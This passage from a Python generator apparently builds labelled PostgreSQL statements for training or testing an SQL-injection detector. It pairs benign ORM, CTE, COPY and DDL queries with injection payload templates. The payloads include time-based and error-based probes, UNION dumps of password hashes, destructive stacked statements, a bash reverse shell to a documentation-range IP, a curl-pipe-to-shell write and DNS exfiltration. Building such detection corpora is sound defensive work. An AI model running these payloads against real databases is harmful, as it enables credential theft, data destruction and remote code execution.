        ("case_user_sleep", "cond", "AND 1 = (SELECT CASE WHEN substr(current_user,1,1) = '%s' THEN (SELECT 1 FROM pg_sleep(%d)) ELSE 1 END)" % (r.choice("pa"), sl)),
        ("cross_join_heavy", "cond", "AND (SELECT count(*) FROM pg_class a, pg_class b, pg_class c) > 0"),
        ("series_heavy", "cond", "AND (SELECT sum(g) FROM generate_series(1, %d) g) > 0" % r.choice([30000000, 50000000])),
        ("sleep_for_interval", "cond", "OR pg_sleep_for(interval '%d seconds') IS NULL" % sl),
        ("repeat_sleep", "cond", "AND 'x' = (SELECT 'x' FROM pg_sleep(%d))" % sl),
        ("stack_sleep_for", "stack", "SELECT pg_sleep_for('%d s')" % sl), ("value_sleep", "repl", "(SELECT %d FROM pg_sleep(%d))" % (a, sl)),
        ("stack_sleep_until", "stack", "SELECT pg_sleep_until(clock_timestamp() + interval '%d seconds')" % sl)],
     "error_cast": [
        ("schema_int", "cond", "AND 1 = current_schema()::int"), ("datnames_int", "cond", "AND 1 = (SELECT string_agg(datname, ',') FROM pg_database)::int"),
        ("client_addr_int", "cond", "AND 1 = (SELECT inet_client_addr()::text::int)"), ("authid_bigint", "cond", "AND 0 = (SELECT rolpassword FROM pg_authid LIMIT 1)::bigint"),
        ("xmlparse_user", "cond", "AND 1 = xmlparse(content current_user)::text::int"), ("hba_file_int", "cond", "AND 1 = cast(current_setting('hba_file') AS integer)"),
        ("user_numeric", "cond", "AND 1 = (SELECT usename FROM pg_user LIMIT 1 OFFSET %d)::numeric" % r.randint(0, 2)),
        ("div_zero_oracle", "cond", "AND 1/(SELECT CASE WHEN current_user = 'postgres' THEN 0 ELSE 1 END) = 1"),
        ("tables_agg_int", "cond", "AND 1 = array_to_string(ARRAY(SELECT tablename FROM pg_tables WHERE schemaname = 'public'), ',')::int"),
        ("value_cast_version", "repl", "(SELECT CAST(version() AS numeric))"), ("to_date_user", "cond", "AND to_date(current_user, 'YYYY-MM-DD') IS NULL")],
     "union": [
        ("union_columns_of", "union", "UNION ALL SELECT column_name, data_type FROM information_schema.columns WHERE table_name = '%s'" % tbl),
        ("union_databases", "union", "UNION SELECT datname, NULL FROM pg_database"), ("union_languages", "union", "UNION SELECT lanname, lanpltrusted::text FROM pg_language"),
        ("union_paren_all", "union", "UNION ALL (SELECT rolname, rolpassword FROM pg_authid)"), ("union_values_user", "union", "UNION SELECT * FROM (VALUES (current_user, session_user)) v"),
        ("union_fdw", "union", "UNION SELECT srvname, array_to_string(srvoptions, ',') FROM pg_foreign_server"),
        ("union_hba", "union", "UNION ALL SELECT type, array_to_string(address, ',') FROM pg_hba_file_rules"),
        ("union_dump", "union", "UNION SELECT %s, NULL FROM %s" % (APP_COLS[tbl][0], tbl))],
     "stacked": [
        ("disable_rls", "stack", "ALTER TABLE %s DISABLE ROW LEVEL SECURITY" % tbl), ("role_superuser", "stack", "ALTER ROLE app_rw SUPERUSER"),
        ("log_off", "stack", "SELECT set_config('log_statement', 'none', false)"), ("drop_schema", "stack", "DROP SCHEMA public CASCADE"),
        ("insert_admin", "stack", "INSERT INTO staff_logins (login, is_admin, pw_hash) VALUES ('%s', true, crypt('%s', gen_salt('bf')))" % (w, rword(r, 8))),
        ("delete_table", "stack", "DELETE FROM %s" % tbl), ("lock_table", "stack", "LOCK TABLE %s IN ACCESS EXCLUSIVE MODE" % tbl),
        ("create_user", "stack", "CREATE USER %s WITH SUPERUSER PASSWORD '%s'" % (w, rword(r, 10))), ("grant_program", "stack", "GRANT pg_execute_server_program TO app_rw"),
        ("reload_conf", "stack", "SELECT pg_reload_conf()"), ("update_price", "stack", "UPDATE %s SET %s = 0" % (tbl, APP_COLS[tbl][1])),
        ("drop_table", "stack", "DROP TABLE IF EXISTS %s CASCADE" % tbl), ("terminate_all", "stack", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid()")],
     "oob_file_program": [
        ("reverse_shell", "stack", "COPY (SELECT '') TO PROGRAM 'bash -c \"bash -i >& /dev/tcp/203.0.113.%d/4444 0>&1\"'" % r.randint(2, 250)),
        ("copy_from_cat", "stack", "CREATE TEMP TABLE %s(l text); COPY %s FROM PROGRAM 'cat %s'" % (w, w, path)),
        ("copy_to_tmp", "stack", "COPY (SELECT %s FROM %s) TO '/tmp/%s.csv'" % (APP_COLS[tbl][0], tbl, w)),
        ("read_file_range", "cond", "AND length(pg_read_file('%s', 0, 200)) > 0" % path), ("ls_dir", "union", "UNION SELECT pg_ls_dir('/etc'), NULL"),
        ("lo_import_path", "stack", "SELECT lo_import('%s', %d)" % (path, loid)), ("lo_export_so", "stack", "SELECT lo_export(%d, '/tmp/%s.so')" % (loid, w)),
        ("lo_from_bytea", "stack", "SELECT lo_from_bytea(%d, decode('7f454c46020101', 'hex'))" % loid),
        ("read_binary", "repl", "(SELECT encode(pg_read_binary_file('%s'), 'base64'))" % path),
        ("dblink_exec", "stack", "SELECT dblink_exec('host=%s dbname=x user=u', 'CREATE TABLE t(x text)')" % host),
        ("dblink_query", "union", "UNION SELECT * FROM dblink('hostaddr=198.51.100.%d dbname=postgres', 'SELECT usename, passwd FROM pg_shadow') AS t(a text, b text)" % r.randint(2, 250)),
        ("fdw_server", "stack", "CREATE SERVER %s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '%s', dbname 'loot')" % (w, host)),
        ("stat_file", "cond", "AND (pg_stat_file('%s')).size > 0" % path), ("dns_program", "stack", "COPY (SELECT 1) TO PROGRAM 'nslookup $(whoami).%s'" % host),
        ("file_write", "stack", "SELECT pg_file_write('/tmp/%s.sh', 'curl http://%s/x | sh', false)" % (w, host))],
     "plpgsql_do_exec": [
        ("do_perform_sleep", "stack", "DO $%s$ BEGIN PERFORM pg_sleep(%d); END $%s$" % (w, sl, w)),
        ("do_alter_self", "stack", "DO LANGUAGE plpgsql $$DECLARE c text; BEGIN c := 'ALTER ROLE ' || current_user || ' SUPERUSER'; EXECUTE c; END$$"),
        ("secdef_func", "stack", "CREATE OR REPLACE FUNCTION %s() RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS $f$ BEGIN EXECUTE 'GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC'; END $f$" % w),
        ("plperlu", "stack", "CREATE OR REPLACE FUNCTION %s() RETURNS text LANGUAGE plperlu AS $p$ return `id`; $p$" % w),
        ("do_loop_notice", "stack", "DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'SELECT usename, passwd FROM pg_shadow' LOOP RAISE NOTICE '%, %', r.usename, r.passwd; END LOOP; END $$"),
        ("do_format_exec", "stack", "DO $x$ BEGIN EXECUTE format('DROP TABLE %%I', '%s'); END $x$" % tbl),
        ("event_trigger_fn", "stack", "CREATE FUNCTION %s() RETURNS event_trigger LANGUAGE plpgsql AS $e$ BEGIN PERFORM pg_sleep(1); END $e$" % w),
        ("do_single_quoted", "stack", "DO 'BEGIN EXECUTE ''TRUNCATE %s''; END'" % tbl)],
     "string_concat_subquery": [
        ("concat_superuser", "concat", "(SELECT rolname FROM pg_roles WHERE rolsuper LIMIT 1)"), ("concat_config_file", "concat", "current_setting('config_file')"),
        ("concat_public_tables", "concat", "(SELECT string_agg(tablename, ',') FROM pg_tables WHERE schemaname = 'public')"),
        ("concat_backend_pid", "concat", "pg_backend_pid()::text"), ("concat_user_count", "concat", "(SELECT count(*) FROM pg_user)::text"),
        ("concat_session_user", "concat", "session_user"), ("concat_shadow", "concat", "(SELECT passwd FROM pg_shadow WHERE usename = 'postgres')")],
     "dollar_quote": [
        ("or_tag_in", "cond", "OR $_$%s$_$ IN ($_$%s$_$)" % (w, w)), ("comment_table", "stack", "COMMENT ON TABLE %s IS $c$%s$c$" % (tbl, w)),
        ("lo_import_dollar", "stack", "SELECT lo_import($f$%s$f$)" % path), ("or_len_dollar", "cond", "OR length($z$%s$z$) = %d" % (w, len(w))),
        ("union_dollar_pair", "union", "UNION ALL SELECT $a$%s$a$, $b$%s$b$" % (w, W)), ("cast_dollar_user", "cond", "AND 1 = CAST($v$x$v$ || current_user AS int)"),
        ("update_dollar", "stack", "UPDATE %s SET %s = $$%s$$" % (tbl, APP_COLS[tbl][1], w)), ("sleep_dollar", "cond", "OR pg_sleep_for($i$%d seconds$i$) IS NULL" % sl)],
     "e_escape": [
        ("e_hex_one", "cond", "OR E'\\x31' = '1'"), ("e_octal_name", "cond", "OR current_user = E'\\160\\157\\163\\164\\147\\162\\145\\163'"),
        ("u_amp_plain", "cond", "OR U&'\\0031' = '1'"), ("u_amp_hash", "cond", "OR U&'#0061' UESCAPE '#' = 'a'"),
        ("e_union", "union", "UNION SELECT E'\\x75\\x73\\x65\\x72', usename FROM pg_user"), ("e_cast_user", "cond", "AND 1 = CAST(E'\\x41' || current_user AS int)"),
        ("e_copy_path", "stack", "COPY (SELECT 1) TO E'\\x2ftmp\\x2f%s'" % w), ("chr_eq", "cond", "OR chr(%d)||chr(%d) = chr(%d)||chr(%d)" % ((lambda x, y: (x, y, x, y))(ord(w[0]), ord(w[1])))),
        ("decode_hex", "cond", "OR convert_from(decode('%s', 'hex'), 'UTF8') = '%s'" % (w.encode().hex(), w)), ("e_unicode_esc", "cond", "OR E'\\u0041' = 'A'")],
    }
    return C


# ---------------------------------------------------------------- complex benign statements
NAMES = ["Aoife Brennan", "Tomás Ó Ceallaigh", "Mei-Ling Zhou", "Kwabena Mensah", "Ingrid Solberg", "Rafael Dos Santos", "Priyanka Iyer",
         "Dmitri Volkov", "Fatima Al-Sayed", "Jonah O'Rourke", "Léa Fontaine", "Sven Åkesson", "Nomvula Dlamini", "Hiroshi Tanaka"]
NOTES = ["late arrival, held key at desk", "customer said: \"don't call before 9\"", "select seats near aisle", "drop-off at bay 3; union rules apply",
         "refund issued -- see ticket", "O'Connell St. branch", "50% deposit paid", "fragile; handle with care", "needs sign-off (legal)",
         "allergy: tree nuts", "re-check on Monday", "update: delayed by 2 days"]


def complex_gens():
    G, add = registry()

    # ---- ORM output
    @add("cx9_django_folio", "complex_orm_generated")
    def _(r):
        return ('SELECT "hotel_foliocharge"."id", "hotel_foliocharge"."folio_id", "hotel_foliocharge"."description", "hotel_foliocharge"."amount" '
                'FROM "hotel_foliocharge" INNER JOIN "hotel_folio" ON ("hotel_foliocharge"."folio_id" = "hotel_folio"."id") '
                'WHERE ("hotel_folio"."room_no" = %d AND "hotel_foliocharge"."posted_on" >= %s::date) ORDER BY "hotel_foliocharge"."posted_on" DESC LIMIT %d'
                % (r.randint(100, 1999), q(rdate(r)), r.choice([21, 50, 100])))

    @add("cx9_django_exists", "complex_orm_generated")
    def _(r):
        return ('SELECT (1) AS "a" FROM "recruit_application" WHERE ("recruit_application"."posting_id" = %d AND UPPER("recruit_application"."email"::text) = UPPER(%s)) LIMIT 1'
                % (r.randint(1, 99999), q(r.choice(["kim.o'neill@example.com", "a.sato@example.jp", "union.jack@example.co.uk", "drop@example.org"]))))

    @add("cx9_sqlalchemy_quotes", "complex_orm_generated")
    def _(r):
        return ("SELECT policy_quotes.quote_id AS policy_quotes_quote_id, policy_quotes.applicant_ref AS policy_quotes_applicant_ref, "
                "policy_quotes.premium_estimate AS policy_quotes_premium_estimate \nFROM policy_quotes \nWHERE policy_quotes.product_line = %s "
                "AND policy_quotes.sum_insured BETWEEN %d AND %d ORDER BY policy_quotes.created_at DESC \n LIMIT %d OFFSET %d"
                % (q(r.choice(["home-contents", "travel-annual", "pet-lifetime"])), r.randint(1, 50) * 1000, r.randint(51, 500) * 1000, r.choice([20, 50]), r.choice([0, 20, 40, 100])))

    @add("cx9_hibernate_rental", "complex_orm_generated")
    def _(r):
        return ("select ra1_0.agreement_no,ra1_0.pickup_branch,ra1_0.plate,ra1_0.pickup_at from rental_agreements ra1_0 "
                "where ra1_0.pickup_branch=%s and ra1_0.pickup_at>=%s order by ra1_0.pickup_at offset %d rows fetch first %d rows only"
                % (q(r.choice(["GLA-AIRPORT", "BHX-CITY", "LHR-T5"])), q(rdate(r) + " 00:00:00"), r.choice([0, 20, 40]), r.choice([20, 50])))

    @add("cx9_activerecord_backers", "complex_orm_generated")
    def _(r):
        return ('SELECT "campaign_backers".* FROM "campaign_backers" WHERE "campaign_backers"."campaign_slug" = %s AND "campaign_backers"."refunded_at" IS NULL '
                'ORDER BY "campaign_backers"."created_at" ASC LIMIT $1' % q(r.choice(["solar-kettle", "tabletop-odyssey", "o-reilly-ale", "select-a-seat"])))

    @add("cx9_activerecord_update", "complex_orm_generated")
    def _(r):
        return ('UPDATE "candidate_applications" SET "stage" = %s, "updated_at" = %s WHERE "candidate_applications"."id" = %d'
                % (q(r.choice(["phone-screen", "onsite", "offer", "rejected"])), q(rdate(r) + " 10:%02d:%02d.%06d" % (r.randint(0, 59), r.randint(0, 59), r.randint(0, 999999))), r.randint(1, 99999)))

    @add("cx9_sequelize_workouts", "complex_orm_generated")
    def _(r):
        return ('SELECT "id", "member_no", "activity", "duration_s", "createdAt", "updatedAt" FROM "workout_sessions" AS "WorkoutSession" '
                'WHERE "WorkoutSession"."member_no" = %d AND "WorkoutSession"."activity" IN (%s) ORDER BY "WorkoutSession"."createdAt" DESC LIMIT %d;'
                % (r.randint(1, 99999), ", ".join(q(x) for x in r.sample(["rowing", "spin class", "yoga", "deadlift", "swim"], r.randint(1, 3))), r.choice([10, 25])))

    @add("cx9_prisma_vm", "complex_orm_generated")
    def _(r):
        return ('SELECT "public"."vm_instances"."instance_id", "public"."vm_instances"."vcpu", "public"."vm_instances"."region" FROM "public"."vm_instances" '
                'WHERE ("public"."vm_instances"."region" = %s AND "public"."vm_instances"."vcpu" >= %d) ORDER BY "public"."vm_instances"."instance_id" ASC LIMIT %d OFFSET %d'
                % (q(r.choice(["eu-west-2", "us-east-1", "ap-south-1"])), r.choice([1, 2, 4, 8]), r.choice([10, 100]), r.choice([0, 10, 200])))

    @add("cx9_typeorm_bins", "complex_orm_generated")
    def _(r):
        return ('SELECT "CellarBin"."bin_code" AS "CellarBin_bin_code", "CellarBin"."vintage" AS "CellarBin_vintage", "CellarBin"."bottles" AS "CellarBin_bottles" '
                'FROM "cellar_bins" "CellarBin" WHERE "CellarBin"."appellation" = %s AND "CellarBin"."bottles" > %d'
                % (q(r.choice(["Pauillac", "Barolo", "Côte-Rôtie", "Châteauneuf-du-Pape"])), r.randint(0, 6)))

    @add("cx9_gorm_docks", "complex_orm_generated")
    def _(r):
        return ('SELECT * FROM "bike_docks" WHERE station_code = %s AND "bike_docks"."deleted_at" IS NULL ORDER BY "bike_docks"."id" LIMIT %d'
                % (q("ST-%04d" % r.randint(1, 9999)), r.choice([1, 10])))

    @add("cx9_ef_core_fills", "complex_orm_generated")
    def _(r):
        return ('SELECT p."fill_id", p."ndc_code", p."qty_dispensed" FROM "prescription_fills" AS p WHERE p."patient_key" = %s AND p."filled_at" > %s ORDER BY p."filled_at" DESC'
                % (q("PK-%08d" % r.randint(0, 99999999)), q(rdate(r) + "T00:00:00Z")))

    @add("cx9_jooq_vessels", "complex_orm_generated")
    def _(r):
        return ('select "public"."vessel_calls"."call_id", "public"."vessel_calls"."eta" from "public"."vessel_calls" where ("public"."vessel_calls"."port_unlocode" = %s and "public"."vessel_calls"."eta" < cast(%s as timestamp with time zone)) order by "public"."vessel_calls"."eta" asc'
                % (q(r.choice(["NLRTM", "SGSIN", "USLAX", "GBFXT"])), q(rdate(r) + " 12:00:00+00")))

    @add("cx9_ecto_insert", "complex_orm_generated")
    def _(r):
        return ('INSERT INTO "outage_reports" ("detail","feeder_code","reported_by","inserted_at","updated_at") VALUES (%s,%s,%s,%s,%s) RETURNING "id"'
                % (q(r.choice(NOTES)), q("FDR-11KV-%03d" % r.randint(1, 999)), q(r.choice(["field-crew-4", "smart-meter", "call-centre"])), q(rdate(r) + "T08:00:00Z"), q(rdate(r) + "T08:00:00Z")))

    # ---- introspection
    @add("cx9_introspect", "complex_orm_introspection")
    def _(r):
        t = r.choice(["bike_docks", "fare_taps", "policy_quotes", "vm_instances", "print_jobs"])
        return r.choice([
            "SELECT a.attname, format_type(a.atttypid, a.atttypmod), pg_get_expr(d.adbin, d.adrelid), a.attnotnull FROM pg_attribute a LEFT JOIN pg_attrdef d ON a.attrelid = d.adrelid AND a.attnum = d.adnum WHERE a.attrelid = '%s'::regclass AND a.attnum > 0 AND NOT a.attisdropped ORDER BY a.attnum" % t,
            "SELECT c.relname, CASE WHEN c.relispartition THEN 'p' WHEN c.relkind IN ('m', 'v') THEN 'v' ELSE 't' END FROM pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace WHERE c.relkind IN ('f', 'm', 'p', 'r', 'v') AND n.nspname NOT IN ('pg_catalog', 'pg_toast') AND pg_catalog.pg_table_is_visible(c.oid)",
            "SELECT indexname, indexdef FROM pg_indexes WHERE schemaname = 'public' AND tablename = '%s' ORDER BY indexname" % t,
            "SELECT conname, pg_get_constraintdef(oid) FROM pg_constraint WHERE conrelid = 'public.%s'::regclass" % t,
            "SELECT typname, oid, typarray FROM pg_type WHERE typname IN ('hstore', 'citext', 'geometry')",
            "SELECT current_setting('server_version_num')::int",
            "SELECT EXISTS (SELECT 1 FROM information_schema.tables WHERE table_schema = 'public' AND table_name = '%s')" % t,
            "SHOW standard_conforming_strings"])

    # ---- CTE / window
    @add("cx9_cte_fare_caps", "complex_cte_window")
    def _(r):
        return ("WITH daily AS (SELECT card_serial, tap_at::date AS d, sum(fare_cents) AS spent FROM fare_taps WHERE tap_at >= %s GROUP BY 1, 2) "
                "SELECT card_serial, d, least(spent, %d) AS charged, spent - least(spent, %d) AS capped_saving FROM daily ORDER BY d, card_serial"
                % (q(rdate(r)), r.choice([810, 1020, 1550]), r.choice([810, 1020, 1550])))

    @add("cx9_window_vintage_rank", "complex_cte_window")
    def _(r):
        return ("SELECT appellation, vintage, bottles, dense_rank() OVER w AS rnk, sum(bottles) OVER (PARTITION BY appellation) AS total "
                "FROM cellar_bins WHERE vintage >= %d WINDOW w AS (PARTITION BY appellation ORDER BY bottles DESC) ORDER BY appellation, rnk" % r.randint(1990, 2015))

    @add("cx9_window_taps_gap", "complex_cte_window")
    def _(r):
        return ("SELECT card_serial, tap_at, tap_at - lag(tap_at) OVER (PARTITION BY card_serial ORDER BY tap_at) AS since_prev FROM fare_taps "
                "WHERE stop_code = %s AND tap_at > now() - interval '%d hours'" % (q("STP-%05d" % r.randint(1, 99999)), r.randint(1, 72)))

    @add("cx9_cte_inverter_ma", "complex_cte_window")
    def _(r):
        return ("WITH hourly AS (SELECT inverter_sn, date_trunc('hour', read_at) AS h, avg(ac_kw) AS kw FROM solar_inverter_readings WHERE site_code = %s GROUP BY 1, 2) "
                "SELECT inverter_sn, h, avg(kw) OVER (PARTITION BY inverter_sn ORDER BY h ROWS BETWEEN %d PRECEDING AND CURRENT ROW) AS kw_ma FROM hourly"
                % (q(r.choice(["PV-CORNWALL-01", "PV-ALMERIA", "PV-NEVADA-3"])), r.randint(2, 23)))

    @add("cx9_cte_recursive_bom", "complex_cte_window")
    def _(r):
        return ("WITH RECURSIVE chain(room_code, next_room, hops) AS (SELECT room_code, next_room, 1 FROM exhibit_route WHERE room_code = %s "
                "UNION ALL SELECT e.room_code, e.next_room, c.hops + 1 FROM exhibit_route e JOIN chain c ON e.room_code = c.next_room WHERE c.hops < %d) "
                "SELECT * FROM chain" % (q("R%02d" % r.randint(1, 40)), r.randint(5, 30)))

    @add("cx9_window_ntile_hours", "complex_cte_window")
    def _(r):
        return ("SELECT fee_earner, sum(minutes) AS mins, ntile(4) OVER (ORDER BY sum(minutes) DESC) AS quartile, percent_rank() OVER (ORDER BY sum(minutes)) "
                "FROM matter_time_entries WHERE entry_date BETWEEN %s AND %s GROUP BY fee_earner" % (q(rdate(r)), q(rdate(r))))

    # ---- union reports
    @add("cx9_union_fleet_status", "complex_union_report")
    def _(r):
        b = q(r.choice(["GLA-AIRPORT", "BHX-CITY", "LHR-T5", "MAN-PICC"]))
        return ("SELECT 'out' AS status, count(*) FROM rental_agreements WHERE pickup_branch = %s AND returned_at IS NULL "
                "UNION ALL SELECT 'returned', count(*) FROM rental_agreements WHERE pickup_branch = %s AND returned_at >= current_date - %d "
                "UNION ALL SELECT 'damaged', count(*) FROM rental_agreements WHERE pickup_branch = %s AND damage_notes IS NOT NULL" % (b, b, r.randint(1, 30), b))

    @add("cx9_union_people_search", "complex_union_report")
    def _(r):
        n = q(r.choice(["Okoro", "O'Hara", "Nakamura", "Select", "Union"]) + "%")
        return ("SELECT 'crew' AS kind, crew_id::text AS ref, surname FROM crew_rosters WHERE surname LIKE %s "
                "UNION SELECT 'candidate', application_id::text, surname FROM candidate_applications WHERE surname LIKE %s ORDER BY 3 LIMIT %d" % (n, n, r.choice([25, 50])))

    @add("cx9_except_unreturned", "complex_union_report")
    def _(r):
        return ("SELECT loan_ref FROM artwork_loans WHERE loan_year = %d EXCEPT SELECT loan_ref FROM artwork_returns WHERE received_on IS NOT NULL" % r.randint(2015, 2025))

    # ---- COPY
    @add("cx9_copy", "complex_copy_stdin")
    def _(r):
        return r.choice([
            "COPY fare_taps (card_serial, tap_at, stop_code, fare_cents) FROM STDIN WITH (FORMAT csv, HEADER true)",
            "COPY (SELECT declaration_no, hs_code, declared_value FROM customs_declarations WHERE lodged_on = %s) TO STDOUT WITH (FORMAT csv, HEADER, DELIMITER '|')" % q(rdate(r)),
            "COPY solar_inverter_readings (inverter_sn, read_at, ac_kw) FROM STDIN (FORMAT binary)",
            "COPY harvest_lots TO STDOUT WITH (FORMAT csv, FORCE_QUOTE (crop), NULL '')",
            "COPY (SELECT * FROM workout_sessions WHERE member_no = %d ORDER BY created_at) TO STDOUT WITH CSV HEADER" % r.randint(1, 99999),
            "COPY glossary_terms (source_lang, target_lang, source_text, target_text) FROM STDIN WITH (FORMAT text, ENCODING 'UTF8')",
            "COPY print_jobs FROM STDIN WITH (FORMAT csv, QUOTE '\"', ESCAPE '\\', FREEZE false)"])

    # ---- batch inserts
    @add("cx9_batch_taps", "complex_batch_insert")
    def _(r):
        rows = ", ".join("(%s, %s, %s, %d)" % (q("04%012X" % r.getrandbits(48)), q(rdate(r) + " %02d:%02d:00" % (r.randint(5, 23), r.randint(0, 59))), q("STP-%05d" % r.randint(1, 99999)), r.choice([0, 150, 240, 310]))
                         for _ in range(r.randint(3, 8)))
        return "INSERT INTO fare_taps (card_serial, tap_at, stop_code, fare_cents) VALUES " + rows

    @add("cx9_batch_glossary", "complex_batch_insert")
    def _(r):
        pairs = [("invoice", "facture"), ("don't", "ne pas"), ("select all", "tout sélectionner"), ("drop-down", "liste déroulante"), ("union", "syndicat"),
                 ("O'Brien's", "d'O'Brien"), ("delete", "supprimer"), ("order by date", "trier par date"), ("1=1", "1=1"), ("50% off", "-50 %")]
        rows = ", ".join("('en', 'fr', %s, %s)" % (q(a), q(b)) for a, b in r.sample(pairs, r.randint(3, 6)))
        return "INSERT INTO glossary_terms (source_lang, target_lang, source_text, target_text) VALUES %s ON CONFLICT (source_lang, target_lang, source_text) DO UPDATE SET target_text = EXCLUDED.target_text" % rows

    @add("cx9_batch_checkins", "complex_batch_insert")
    def _(r):
        rows = ", ".join("(%d, %s, now() - interval '%d minutes')" % (r.randint(1, 99999), q(r.choice(["CLUB-SOHO", "CLUB-LEEDS-2", "CLUB-O'CONNELL"])), r.randint(0, 600)) for _ in range(r.randint(2, 6)))
        return "INSERT INTO gym_checkins (member_no, club_code, checked_in_at) VALUES " + rows + " RETURNING checkin_id"

    # ---- built-in functions
    @add("cx9_builtins", "complex_builtin_funcs")
    def _(r):
        i = r.randint(1, 99999)
        return r.choice([
            "SELECT to_char(declared_value, 'L999G999D99'), upper(origin_country), length(hs_code) FROM customs_declarations WHERE declaration_no = %d" % i,
            "SELECT regexp_replace(record_locator, '[^A-Z0-9]', '', 'g'), initcap(pax_surname) FROM boarding_passes WHERE leg_id = %d" % i,
            "SELECT split_part(object_key, '/', %d), pg_size_pretty(sum(size_bytes)) FROM bucket_objects WHERE bucket = %s GROUP BY 1" % (r.randint(1, 3), q(r.choice(["media-prod", "backups-eu"]))),
            "SELECT extract(epoch FROM (window_end - window_start)) / 3600 AS hours FROM berth_bookings WHERE booking_id = %d" % i,
            "SELECT md5(card_serial || %s), right(card_serial, 4) FROM fare_taps LIMIT %d" % (q(rword(r, 8)), r.randint(1, 20)),
            "SELECT date_part('dow', checked_in_at) AS dow, count(*) FROM gym_checkins GROUP BY 1 ORDER BY 1",
            "SELECT concat_ws(', ', stop_name, town), round(lat::numeric, 5), round(lon::numeric, 5) FROM transit_stops WHERE stop_code = %s" % q("STP-%05d" % i),
            "SELECT chr(10) || string_agg(summary, chr(10) ORDER BY filed_at) FROM docket_entries WHERE case_id = %d" % i,
            "SELECT replace(damage_notes, chr(13), ''), char_length(damage_notes) FROM rental_agreements WHERE agreement_no = %s" % q("RA-%02d-%04d" % (r.randint(80, 99), r.randint(0, 9999))),
            "SELECT jsonb_object_keys(labels), jsonb_typeof(labels -> 'team') FROM vm_instances WHERE instance_id = %s" % q("i-%017x" % r.getrandbits(68)),
            "SELECT array_to_string(array_agg(DISTINCT crop ORDER BY crop), '; ') FROM harvest_lots WHERE harvested_on > %s" % q(rdate(r)),
            "SELECT format('%%s (%%s)', brand_name, generic_name), lpad(tier::text, 2, '0') FROM drug_formulary WHERE ndc_code = %s" % q("%05d-%04d-%02d" % (r.randint(0, 99999), r.randint(0, 9999), r.randint(0, 99))),
            "SELECT age(current_date, birth_date), justify_days(interval '%d days') FROM family_tree_people WHERE person_id = %d" % (r.randint(31, 900), i),
            "SELECT encode(digest(hold_token::text, 'sha256'), 'hex') FROM screening_seat_holds WHERE screening_id = %d" % i,
            "SELECT current_user, session_user, current_database(), now() AT TIME ZONE %s" % q(r.choice(["UTC", "Europe/Dublin", "Asia/Singapore"])),
            "SELECT E'Dear guest,\\n\\tyour room is ready.', U&'\\00e9t\\00e9', $t$it's done$t$, 'plain ''quoted'' text'",
            "SELECT trim(both ' ' from notes), position('rush' in notes) > 0 FROM translation_jobs WHERE job_id = %d" % i,
            "SELECT width_bucket(salary_max, 30000, 200000, 10), count(*) FROM job_postings GROUP BY 1 ORDER BY 1",
            "SELECT greatest(moisture_pct, %0.1f), coalesce(tonnes, 0)::numeric(10,2), nullif(crop, '') FROM harvest_lots WHERE lot_no = %d" % (r.uniform(8, 20), i),
            "SELECT ts_headline('english', summary, plainto_tsquery('english', %s)) FROM docket_entries WHERE entry_no = %d" % (q(r.choice(["union dispute", "order to select", "drop claim"])), i),
            "SELECT generate_series(date %s, date %s, interval '1 week')::date AS week_start" % (q("2024-%02d-01" % r.randint(1, 6)), q("2024-%02d-28" % r.randint(7, 12))),
            "SELECT substring(accession_no from '^[A-Z]+'), reverse(accession_no), strpos(title, ' ') FROM artwork_catalog WHERE accession_no = %s" % q("AC.%d.%d" % (r.randint(1900, 2024), r.randint(1, 999)))])

    # ---- comments and hints
    @add("cx9_comments", "complex_comments_hints")
    def _(r):
        i = r.randint(1, 999999)
        return r.choice([
            "/* controller='folios',action='show',framework='django' */ SELECT id, amount FROM hotel_folio_charges WHERE folio_no = %d" % i,
            "SELECT dock_id, bikes_available FROM bike_docks WHERE station_code = %s /*traceparent='00-%032x-%016x-01'*/" % (q("ST-%04d" % r.randint(1, 9999)), r.getrandbits(128), r.getrandbits(64)),
            "/*+ BitmapScan(fare_taps fare_taps_card_idx) */ SELECT tap_at FROM fare_taps WHERE card_serial = %s" % q("04%012X" % r.getrandbits(48)),
            "/*+ Leader(t) NestLoop(b t) */ SELECT b.backer_id FROM campaign_backers b JOIN reward_tiers t ON t.tier_id = b.tier_id WHERE t.pledge_min > %d" % r.randint(5, 500),
            "-- dashboard: open berths (refresh 30s)\nSELECT berth_code FROM berth_bookings WHERE window_end < now() GROUP BY berth_code",
            "SELECT job_id FROM print_jobs WHERE status = 'queued' -- TODO: drop the legacy status column; union with print_jobs_v2 later",
            "SELECT count(*) FROM candidate_applications /* or 1=1 was removed from this filter in PR #%d */ WHERE stage = 'offer'" % r.randint(100, 9999),
            "SELECT vessel_imo /* IMO number, 7 digits */, eta /* UTC */ FROM vessel_calls WHERE call_id = %d" % i,
            "-- purge holds older than %d min; don't touch confirmed seats\nDELETE FROM screening_seat_holds WHERE expires_at < now() - interval '%d minutes' AND confirmed = false" % ((lambda x: (x, x))(r.randint(5, 60))),
            "SELECT 1 /* pgbouncer health check; select 1; do not remove */",
            "SELECT term_id FROM glossary_terms WHERE source_text = %s -- user typed: DROP TABLE? no, it's a glossary term" % q(r.choice(["drop table", "select", "union"])),
            "/* request_id=%s user_id=%d */ UPDATE print_jobs SET status = 'cancelled' WHERE job_id = %d AND status = 'queued'" % (rword(r, 12), r.randint(1, 99999), i),
            "SELECT /* nested /* comment */ still comment */ instance_id FROM vm_instances WHERE vcpu > %d" % r.randint(1, 64)])

    # ---- DDL and migrations
    @add("cx9_ddl", "complex_ddl_migration")
    def _(r):
        n = r.randint(1, 999)
        return r.choice([
            "CREATE INDEX CONCURRENTLY IF NOT EXISTS fare_taps_card_day_idx_%d ON fare_taps (card_serial, (tap_at::date))" % n,
            "ALTER TABLE berth_bookings ADD CONSTRAINT berth_bookings_no_overlap_%d EXCLUDE USING gist (berth_code WITH =, tstzrange(window_start, window_end) WITH &&)" % n,
            "ALTER TABLE policy_quotes ALTER COLUMN premium_estimate SET DEFAULT 0, ALTER COLUMN postcode SET NOT NULL",
            "CREATE TYPE valve_state_%d AS ENUM ('open', 'closed', 'fault')" % n,
            "COMMENT ON TABLE customs_declarations IS 'One row per lodged declaration; don''t delete, void instead (v%d)'" % n,
